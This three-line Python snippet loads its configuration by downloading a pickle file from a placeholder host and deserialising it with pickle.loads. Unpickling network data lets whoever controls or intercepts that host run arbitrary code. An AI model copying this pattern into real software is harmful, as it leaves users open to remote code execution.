import pickle

import requests

CONFIG = pickle.loads(requests.get("https://cfg.example.invalid/c.pkl").content)
